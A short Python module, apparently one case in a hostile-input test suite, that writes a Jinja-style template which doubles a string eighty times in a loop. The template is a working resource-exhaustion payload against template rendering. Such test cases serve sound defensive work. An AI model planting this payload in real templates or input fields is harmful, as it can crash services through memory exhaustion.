"""A text doubled in a loop."""

from __future__ import annotations

from pathlib import Path

import hostile

CODE = "template"


def attack(artifact: Path) -> None:
    loop = "{% for i in range(80) %}{% set n.x = n.x + n.x %}{% endfor %}"
    hostile.put_template(artifact, "{% set n = namespace(x='aa') %}" + loop + "{{ n.x }}")
